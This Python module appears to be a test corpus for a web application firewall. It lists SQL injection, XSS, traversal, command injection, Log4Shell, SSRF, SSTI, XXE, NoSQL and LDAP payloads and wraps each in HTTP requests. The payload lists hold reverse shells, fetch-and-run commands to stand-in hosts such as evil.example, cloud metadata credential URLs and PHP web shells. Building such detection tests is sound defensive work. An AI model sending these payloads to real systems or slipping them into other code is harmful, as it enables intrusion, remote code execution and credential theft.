"""Attack traffic beyond the public corpus, as scanners and exploit kits send it.

Payload families written from what real attack traffic holds — sqlmap's techniques and
tamper scripts, dialect-specific blind/time/error-based SQL, XSS polyglots and encodings,
traversal encodings, command injection, deserialization, Spring4Shell, Log4Shell
obfuscations, SSRF address tricks, SSTI, XXE, NoSQL, LDAP, CRLF, scanner probes — each
placed where attackers put it (query, form, JSON, headers, cookies, path, multipart) and
sent in the encodings they use. ``attack_requests()`` is deterministic.
"""

from __future__ import annotations

import json
import random
import re
from dataclasses import dataclass
from urllib.parse import quote, quote_plus

from strongroom.edge.guard import GateRequest

SEED = 6_2026


@dataclass(frozen=True, slots=True)
class AttackRequest:
    name: str
    family: str
    payload: str
    request: GateRequest


SQLI = [
    # boolean / union, sqlmap-style
    "1' AND 1=1-- -",
    "1 AND 5432=5432",
    "1' AND '7821'='7821",
    '1" AND "a"="a',
    "-1 UNION ALL SELECT NULL,NULL,CONCAT(0x7176,0x4a4b,0x7171)-- -",
    "-3821' UNION ALL SELECT NULL,table_name,NULL FROM information_schema.tables#",
    "1) AND (SELECT 4152 FROM (SELECT(SLEEP(5)))xYzA) AND (1532=1532",
    "1' AND (SELECT 2*(IF((SELECT * FROM (SELECT CONCAT(0x71,(SELECT (ELT(1=1,1))),0x71,FLOOR(RAND(0)*2))x FROM INFORMATION_SCHEMA.PLUGINS GROUP BY x)a),8446744073709551610,8446744073709551610)))-- -",
    "1 AND EXTRACTVALUE(4232,CONCAT(0x5c,0x71,(SELECT user()),0x71))",
    "1' AND UPDATEXML(1,CONCAT(0x7e,(SELECT version()),0x7e),1)-- -",
    "1;SELECT PG_SLEEP(5)--",
    "1' AND 1337=(SELECT 1337 FROM PG_SLEEP(5))-- -",
    "1 AND 8712=CAST((CHR(113)||CHR(120))||(SELECT version())::text AS NUMERIC)",
    "1'; WAITFOR DELAY '0:0:5'--",
    "1 AND 2891=CONVERT(INT,(SELECT CHAR(113)+CHAR(118)+@@version))",
    "1';EXEC xp_cmdshell 'ping 10.0.0.1'--",
    "1' AND 7012=DBMS_PIPE.RECEIVE_MESSAGE(CHR(65),5)-- -",
    "1' AND 3910=(SELECT UPPER(XMLType(CHR(60)||CHR(58)||(SELECT user FROM DUAL)||CHR(62))) FROM DUAL)-- -",
    "1 OR 1=1",
    "' OR '1'='1",
    "admin'--",
    "admin' #",
    "' or ''='",
    "1' ORDER BY 3-- -",
    "1 GROUP BY 1,2,3 HAVING 1=1",
    "') OR ('x'='x",
    "1 RLIKE (SELECT (CASE WHEN (1=1) THEN 1 ELSE 0x28 END))",
    "1' AND SUBSTRING((SELECT password FROM users LIMIT 1),1,1)='a",
    "1 AND ASCII(SUBSTR((SELECT database()),1,1))>64",
    "1' AND BENCHMARK(5000000,MD5(0x41))-- -",
    "1; DROP TABLE users--",
    "1'; INSERT INTO users(name,role) VALUES('x','admin')--",
    "(select(0)from(select(sleep(5)))v)/*'+(select(0)from(select(sleep(5)))v)+'\"+(select(0)from(select(sleep(5)))v)+\"*/",
    "1' AND 1=(SELECT COUNT(*) FROM tabname); --",
    "1 OR (SELECT 1 FROM sqlite_master WHERE type='table')=1",
    "1' AND randomblob(500000000)-- -",
    "' UNION SELECT username||':'||password FROM users--",
    "1'||(SELECT '' FROM dual WHERE 1=1)||'",
    # tamper scripts
    "1'/**/AND/**/1=1/**/--/**/-",  # space2comment
    "1 AND 5 BETWEEN 4 AND 6",  # between
    "%31%27%20%41%4E%44%20%31%3D%31%2D%2D%20%2D",  # charencode: 1' AND 1=1-- -
    "1 UnIoN SeLeCt NuLl,VeRsIoN()-- -",  # randomcase
    "1/*!UNION*//*!SELECT*/1,2,3",  # versionedkeywords
    "1/*!50000UNION*//*!50000SELECT*/user()",  # versionedmorekeywords
    "1%EF%BC%87 OR 1=1-- -",  # apostrophemask (full-width apostrophe)
    "1%00' UNION SELECT 1-- -",  # apostrophenullencode-ish
    "1'%0AOR%0A1=1--%0A",  # space2mysqlblank-ish
    "1'%09AND%091=1#",
    "1' AND 1=1 %23",
    "1+UNION+ALL+SELECT+NULL%2CNULL--+",
    "1' || 1=1 -- -",
    "1' OR 1 -- -",
    "1' && 1=1 #",
    "-1' UNION SELECT 1,2,group_concat(column_name) FROM information_schema.columns WHERE table_name='users'-- -",
    "1 AND (SELECT * FROM (SELECT(SLEEP(5)))a)",
    "1' AND IF(1=1,SLEEP(5),0) AND 'a'='a",
    "1;SELECT CASE WHEN (1=1) THEN pg_sleep(5) ELSE pg_sleep(0) END--",
    "'; exec master..xp_cmdshell 'whoami';--",
    "1 UNION SELECT LOAD_FILE('/etc/passwd')",
    "1' INTO OUTFILE '/var/www/html/s.php'-- -",
    "1 procedure analyse(extractvalue(rand(),concat(0x3a,version())),1)",
    "' AND 1=0 UNION SELECT @@version --",
]
XSS = [
    "<script>alert(1)</script>",
    '"><script>alert(document.domain)</script>',
    "'><img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><set onbegin=alert(1) attributename=x>",
    '<a href="javascript&colon;alert(1)">x</a>',
    '<a href="jav&#x09;ascript:alert(1)">x</a>',
    '<iframe src="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></iframe>',
    '<object data="data:text/html,<script>alert(1)</script>">',
    "<img src=x onerror=\"[]['filter']['constructor']('alert(1)')()\">",
    "<img src=x onerror=alert`1`>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<marquee onstart=alert(1)>",
    '<video><source onerror="alert(1)">',
    "javascript:alert(document.cookie)",
    "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=alert() )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=alert()//>\\x3e",
    "%3Cscript%3Ealert(1)%3C%2Fscript%3E",
    "%253Cscript%253Ealert(1)%253C%252Fscript%253E",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<ScRiPt>prompt(1)</sCrIpT>",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "<img src=1 onerror=eval(atob('YWxlcnQoMSk='))>",
    "<svg/onload=self[`al`+`ert`](1)>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<form action=javascript:alert(1)><input type=submit>",
    "<isindex action=javascript:alert(1) type=image>",
    '"-alert(1)-"',
    "';alert(String.fromCharCode(88,83,83))//",
    "</script><script>alert(1)</script>",
    "<style>@import 'javascript:alert(1)';</style>",
    '<div style="background:url(javascript:alert(1))">',
    '<link rel=import href="data:text/html,<script>alert(1)</script>">',
    '<base href="javascript:alert(1)//">',
    '<embed src="javascript:alert(1)">',
    "${alert(1)}",
    "<x onpointerover=alert(1)>hover",
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">',
    "<img src=x:alert(alt) onerror=eval(src) alt=0>",
    "<svg><script href=data:,alert(1) />",
    "[][(![]+[])[+[]]+(![]+[])[!+[]+!+[]]+(![]+[])[+!+[]]+(!![]+[])[+[]]]",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "{{constructor.constructor('alert(1)')()}}",
]
TRAVERSAL = [
    "../../../../etc/passwd",
    "..%2f..%2f..%2f..%2fetc%2fpasswd",
    "..%252f..%252f..%252fetc%252fpasswd",
    "%252e%252e%252f%252e%252e%252fetc%252fpasswd",
    "..%c0%af..%c0%af..%c0%afetc/passwd",
    "..%c1%9c..%c1%9c..%c1%9cboot.ini",
    "....//....//....//etc/passwd",
    "..\\..\\..\\windows\\win.ini",
    "..%5c..%5c..%5cwindows%5cwin.ini",
    "/etc/passwd%00.png",
    "file:///etc/passwd",
    "php://filter/convert.base64-encode/resource=index.php",
    "php://input",
    "expect://id",
    "zip://uploads/a.jpg%23shell",
    "phar://./uploads/x.phar",
    "/proc/self/environ",
    "..%u2216..%u2216etc%u2216passwd",
    "%2e%2e/%2e%2e/%2e%2e/etc/shadow",
    "..;/..;/..;/WEB-INF/web.xml",
    "/WEB-INF/web.xml",
    "C:\\Windows\\System32\\drivers\\etc\\hosts",
    "/var/log/apache2/access.log",
    "~/.ssh/id_rsa",
    "/root/.bash_history",
]
RCE = [
    "; id",
    "| id",
    "|| whoami",
    "&& cat /etc/passwd",
    "$(id)",
    "`id`",
    "; nc -e /bin/sh 10.0.0.1 4444",
    "| bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
    "; curl http://evil.example/x.sh | bash",
    "; wget -qO- http://203.0.113.9/a | sh",
    ";${IFS}cat${IFS}/etc/passwd",
    ";c'a't /e't'c/pa''sswd",
    "$(printf '\\x69\\x64')",
    "; echo Y2F0IC9ldGMvcGFzc3dk | base64 -d | sh",
    "& ping -n 5 127.0.0.1 &",
    "| powershell -enc SQBFAFgA",
    "& certutil -urlcache -split -f http://evil.example/x.exe",
    "; sleep 10 #",
    "%0Aid",
    "a;/bin/cat /etc/shadow",
    "() { :; }; /bin/bash -c 'id'",
    "<?php system($_GET['c']); ?>",
    "${@print(md5(31337))}",
    "__import__('os').system('id')",
    'O:8:"stdClass":1:{s:4:"test";s:2:"id";}',
    "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcAUH2sHDFmDRAwACRgAKbG9hZEZhY3Rvcg==",
    "class.module.classLoader.resources.context.parent.pipeline.first.pattern=%25%7Bc2%7Di",
    "%{(#_memberAccess['allowStaticMethodAccess']=true).(@java.lang.Runtime@getRuntime().exec('id'))}",
    '{"@type":"com.sun.rowset.JdbcRowSetImpl","dataSourceName":"ldap://evil.example/x"}',
    "!!python/object/apply:os.system ['id']",
    "require('child_process').exec('id')",
    '{"__proto__":{"isAdmin":true}}',
]
JNDI = [
    "${jndi:ldap://evil.example/a}",
    "${${::-j}${::-n}${::-d}${::-i}:${::-l}${::-d}${::-a}${::-p}://evil.example/a}",
    "${${lower:j}ndi:${lower:r}mi://evil.example/x}",
    "${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap${env:NaN:-:}//evil.example/}",
    "${jndi:dns://evil.example}",
    "${${upper:j}ndi:ldap://127.0.0.1:1389/Basic/Command/whoami}",
    "%24%7Bjndi%3Aldap%3A%2F%2Fevil.example%2Fa%7D",
    "${j${k8s:k5:-ND}i${sd:k5:-:}ldap://evil.example/}",
]
SSRF = [
    "http://127.0.0.1:8080/admin",
    "http://localhost/server-status",
    "http://0x7f000001/",
    "http://2130706433/",
    "http://0177.0.0.1/",
    "http://[::ffff:127.0.0.1]/",
    "http://[::1]:6379/",
    "http://169.254.169.254/latest/meta-data/iam/security-credentials/",
    "http://metadata.google.internal/computeMetadata/v1/",
    "http://100.100.100.200/latest/meta-data/",
    "gopher://127.0.0.1:6379/_SET%20x%20y",
    "dict://127.0.0.1:11211/stats",
    "http://10.0.0.5:9200/_cat/indices",
    "http://192.168.1.1/",
    "http://127.1/",
    "http://0/",
    "http://spoofed.localtest.me/",
    "http://127.0.0.1.nip.io/",
]
SSTI = [
    "{{7*7}}",
    "{{config.items()}}",
    "{{''.__class__.__mro__[1].__subclasses__()}}",
    "{{request.application.__globals__.__builtins__.__import__('os').popen('id').read()}}",
    "${7*7}",
    "#{7*7}",
    "<%= 7*7 %>",
    "${T(java.lang.Runtime).getRuntime().exec('id')}",
    "{{self._TemplateReference__context.cycler.__init__.__globals__.os.popen('id').read()}}",
    "{% import os %}{{ os.system('id') }}",
    '<#assign ex="freemarker.template.utility.Execute"?new()>${ex("id")}',
    "#set($x='')#set($rt=$x.class.forName('java.lang.Runtime'))",
    "{{lipsum.__globals__['os'].popen('id').read()}}",
    "*{T(java.lang.Runtime).getRuntime().exec('id')}",
]
XXE = [
    '<?xml version="1.0"?><!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><foo>&xxe;</foo>',
    '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY % x SYSTEM "http://evil.example/x.dtd"> %x;]><r/>',
    '<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;">]><lolz>&lol2;</lolz>',
    '<foo xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include parse="text" href="file:///etc/passwd"/></foo>',
]
NOSQL = [
    '{"username":{"$ne":null},"password":{"$ne":null}}',
    '{"username":"admin","password":{"$gt":""}}',
    '{"$where":"sleep(5000)"}',
    '{"username":{"$regex":"^a"}}',
    "'; return true; var x='",
]
LDAP = [
    "*)(uid=*))(|(uid=*",
    "admin)(&(password=*))",
    "*)(|(objectClass=*)",
    "x)(|(cn=*)(userPassword=*)",
]
CRLF = [
    "%0d%0aSet-Cookie:%20admin=1",
    "%0D%0ALocation:%20http://evil.example",
    "\r\nX-Injected: 1",
    "%E5%98%8A%E5%98%8DSet-Cookie:x=1",
    "/%0d%0aContent-Length:0%0d%0a%0d%0aHTTP/1.1%20200%20OK",
]
SCANNER_UAS = [
    "sqlmap/1.8.3#stable (https://sqlmap.org)",
    "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)",
    "Nikto/2.5.0",
    "Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:000001)",
    "masscan/1.3 (https://github.com/robertdavidgraham/masscan)",
    "Nuclei - Open-source project (github.com/projectdiscovery/nuclei)",
    "WPScan v3.8.25 (https://wpscan.com/wordpress-security-scanner)",
    "Acunetix-Product",
    "gobuster/3.6",
    "Fuzz Faster U Fool v2.1.0",
    "zgrab/0.x",
    "() { :; }; echo; /bin/bash -c 'cat /etc/passwd'",
]
SCANNER_PATHS = [
    "/.env",
    "/.git/config",
    "/wp-config.php.bak",
    "/phpmyadmin/index.php",
    "/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh",
    "/actuator/env",
    "/server-status",
    "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
    "/index.php?s=/Index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=system&vars[1][]=id",
    "/.aws/credentials",
    "/config.json.bak",
    "/backup.sql",
    "/HNAP1/",
    "/boaform/admin/formLogin",
    "/solr/admin/cores?action=CREATE&name=x&instanceDir=x&config=../../../../etc/passwd",
]

# More payloads as seen in attack logs, each family's evasions mixed (case, comments,
# encodings, whitespace tricks).
MIXED = [
    "1' or '1'='1' -- ",
    "' or 1=1 limit 1 -- -+",
    "1' and sleep(3) and '1",
    "admin' or 1=1#",
    "1 and (select substring(@@version,1,1))='5'",
    "' union select null,version(),null-- -",
    "1';select pg_sleep(3)--",
    "'; shutdown --",
    "1 or benchmark(10000000,sha1(1))",
    "1' and extractvalue(1,concat(0x5c,user()))-- -",
    "<img src=x onerror=prompt(1)>",
    "<svg/onload=confirm(1)>",
    '"><img src=x onerror=alert(document.cookie)>',
    '<iframe srcdoc="<script>alert(1)</script>">',
    "<a href=javascript:alert(1)>click</a>",
    "<body onpageshow=alert(1)>",
    "javascript://%0aalert(1)",
    "<scr\\x00ipt>alert(1)</script>",
    "../../../../../../etc/passwd%00",
    "....\\\\....\\\\....\\\\windows\\\\win.ini",
    "/..%2f..%2f..%2fetc/passwd",
    "; cat /etc/passwd",
    "| ls -la /",
    "`whoami`",
    "$(curl http://evil.example/x|sh)",
    ";wget http://1.2.3.4/bot -O /tmp/b;chmod +x /tmp/b;/tmp/b",
    "& net user hacker P@ss /add",
    "${jndi:ldap://1.2.3.4:1389/a}",
    "${${lower:${lower:jndi}}:${lower:ldap}://x.example/a}",
    "{{7*'7'}}",
    "{{''.__class__.__bases__[0].__subclasses__()}}",
    '<!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/shadow">]><x>&y;</x>',
    "http://169.254.169.254/latest/meta-data/",
    "file:///c:/windows/win.ini",
    "<?php echo shell_exec($_GET['c']); ?>",
    "<%= `id` %>",
    "%0d%0aSet-Cookie:session=evil",
    ")(cn=*))(|(cn=*",
    '{"$gt": ""}',
    "1'+or+'1'='1",
    "1' oR '1'='1",
    "1'||'1'='1",
    "'-'",
    "' or 1 in (select @@version)--",
    "1 aNd 1=0 UnIoN aLl SeLeCt 1,2,3",
    "1%27%20or%201%3D1--",
    "1' /*!50000or*/ 1=1 -- -",
    "1' or true-- -",
    "' having 1=1--",
    "' group by columnnames having 1=1 --",
    "1 and updatexml(1,concat(0x7e,database()),1)",
    "1' waitfor delay '00:00:10'--",
    "'||pg_sleep(10)--",
    "1 AND 1=DBMS_PIPE.RECEIVE_MESSAGE('a',10)",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<x/onclick=alert(1)>",
    "<img/src/onerror=alert(1)>",
    '<a/href="j&#97;vascript:alert(1)">x',
    "<svg><a><rect width=100% height=100% /><animate attributeName=href values=javascript:alert(1) /></a>",
    "<iframe/src=javascript:alert(1)>",
    '"autofocus onfocus="alert(1)',
    "' onmouseover='alert(1)",
    "javascript:eval('al'+'ert(1)')",
    "data:text/html,<script>alert(1)</script>",
    '<img src="x" onerror="&#x61;&#x6c;&#x65;&#x72;&#x74;(1)">',
    "<svg><script>alert&#40;1&#41;</script>",
    "..%2F..%2F..%2F..%2Fetc%2Fpasswd",
    "%2e%2e%5c%2e%2e%5cwindows%5cwin.ini",
    "/proc/self/cmdline",
    ";cat$IFS/etc/passwd",
    "|cat</etc/passwd",
    "a|nc 1.2.3.4 4444 -e /bin/sh",
    "`sleep 5`",
    "$(sleep 5)",
    ";sleep+5;",
    "& ping -c 10 127.0.0.1 &",
    "%0a/bin/cat%20/etc/passwd",
    "{{config.__class__.__init__.__globals__['os'].popen('id').read()}}",
    "${T(java.lang.System).getenv()}",
    "#{T(java.lang.Runtime).getRuntime().exec('id')}",
    "${jndi:rmi://1.2.3.4/a}",
    "${${env:BARFOO:-j}ndi${env:BARFOO:-:}${env:BARFOO:-l}dap${env:BARFOO:-:}//attacker.com/a}",
    "http://[0:0:0:0:0:ffff:127.0.0.1]/",
    "http://017700000001/",
    "http://localhost:22/",
    "http://metadata/computeMetadata/v1/",
    "*)(objectClass=*",
    "admin*)((|userPassword=*)",
    '{"$ne": 1}',
    "';return 'a'=='a' && ''=='",
]

FAMILIES = {
    "sqli": SQLI,
    "xss": XSS,
    "traversal": TRAVERSAL,
    "rce": RCE,
    "jndi": JNDI,
    "ssrf": SSRF,
    "ssti": SSTI,
    "xxe": XXE,
    "nosql": NOSQL,
    "ldap": LDAP,
    "crlf": CRLF,
    "mixed": MIXED,
}
# Where each payload goes; a family's payloads go to every placement that suits it.
PLACEMENTS = ("query", "form", "json", "header", "cookie", "multipart", "path")
_PRE_ENCODED = re.compile(r"%[0-9A-Fa-f]{2}|^\w+\+\w")
_UA = b"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 Chrome/131.0.0.0"


def _headers(*extra: tuple[bytes, bytes]) -> list[tuple[bytes, bytes]]:
    return [(b"host", b"shop.example.com"), (b"user-agent", _UA), (b"accept", b"*/*"), *extra]


def _request(
    method: bytes, target: str, headers: list[tuple[bytes, bytes]], body: bytes = b""
) -> GateRequest:
    return GateRequest(
        "192.0.2.66",
        method,
        target.encode("utf-8", "surrogateescape"),
        headers,
        "attack",
        body=body,
    )


def place(payload: str, placement: str, rng: random.Random) -> GateRequest:
    """``payload`` in one location, encoded as a client would send it there."""
    name = rng.choice(["id", "q", "search", "file", "url", "page", "name", "redirect", "cat"])
    if placement == "query":
        # Payloads written pre-encoded (tamper scripts) are sent as they are.
        encoded = payload if _PRE_ENCODED.search(payload) else quote_plus(payload, safe="")
        return _request(b"GET", f"/items?{name}={encoded}&lang=en", _headers())
    if placement == "form":
        body = f"{name}={quote_plus(payload, safe='')}&submit=1".encode()
        return _request(
            b"POST",
            "/form",
            _headers((b"content-type", b"application/x-www-form-urlencoded")),
            body,
        )
    if placement == "json":
        body = json.dumps({"order": {name: payload, "qty": 1}}).encode()
        return _request(
            b"POST", "/api/orders", _headers((b"content-type", b"application/json")), body
        )
    if placement == "header":
        header = rng.choice([b"x-forwarded-for", b"user-agent", b"x-api-version", b"x-custom"])
        value = payload.replace("\r", "%0d").replace("\n", "%0a").encode("utf-8")
        headers = [h for h in _headers() if h[0] != header] + [(header, value)]
        return _request(b"GET", "/", headers)
    if placement == "cookie":
        return _request(
            b"GET",
            "/",
            _headers((b"cookie", f"lang=en; {name}={quote(payload, safe='')}".encode())),
        )
    if placement == "multipart":
        boundary = "----x" + str(rng.randrange(10**8))
        body = (
            f'--{boundary}\r\nContent-Disposition: form-data; name="{name}"\r\n\r\n{payload}\r\n'
            f"--{boundary}--\r\n"
        ).encode()
        return _request(
            b"POST",
            "/upload",
            _headers((b"content-type", f"multipart/form-data; boundary={boundary}".encode())),
            body,
        )
    return _request(b"GET", "/files/" + quote(payload, safe="/%"), _headers())


def attack_requests(seed: int = SEED) -> list[AttackRequest]:
    """Every payload of every family in every placement, plus scanner probes and bodies
    that only make sense whole (XML documents, NoSQL JSON operators)."""
    rng = random.Random(seed)
    out: list[AttackRequest] = []
    for family, payloads in FAMILIES.items():
        for index, payload in enumerate(payloads):
            for placement in PLACEMENTS:
                if placement == "path" and family not in (
                    "traversal",
                    "sqli",
                    "xss",
                    "rce",
                    "jndi",
                ):
                    continue
                if placement == "header" and (family == "ssrf" or payload.startswith("http")):
                    continue  # request headers are not fetched (Referer names localhost)
                out.append(
                    AttackRequest(
                        f"{family}#{index}@{placement}",
                        family,
                        payload,
                        place(payload, placement, rng),
                    )
                )
    for index, payload in enumerate(XXE):
        request = _request(
            b"POST",
            "/api/import",
            _headers((b"content-type", b"application/xml")),
            payload.encode(),
        )
        out.append(AttackRequest(f"xxe#{index}@body", "xxe", payload, request))
    for index, payload in enumerate(NOSQL[:4]):
        request = _request(
            b"POST",
            "/api/login",
            _headers((b"content-type", b"application/json")),
            payload.encode(),
        )
        out.append(AttackRequest(f"nosql#{index}@body", "nosql", payload, request))
    for index, query in enumerate(
        ["username[$ne]=x&password[$ne]=x", "user[$regex]=.*&pass[$gt]=", "q[$where]=sleep(5000)"]
    ):
        request = _request(b"GET", f"/login?{query}", _headers())
        out.append(AttackRequest(f"nosql-query#{index}", "nosql", query, request))
    for index, ua in enumerate(SCANNER_UAS):
        request = _request(
            b"GET",
            "/",
            [(b"host", b"shop.example.com"), (b"user-agent", ua.encode()), (b"accept", b"*/*")],
        )
        out.append(AttackRequest(f"scanner-ua#{index}", "scanner", ua, request))
    for index, path in enumerate(SCANNER_PATHS):
        out.append(
            AttackRequest(
                f"scanner-path#{index}", "scanner", path, _request(b"GET", path, _headers())
            )
        )
    return out
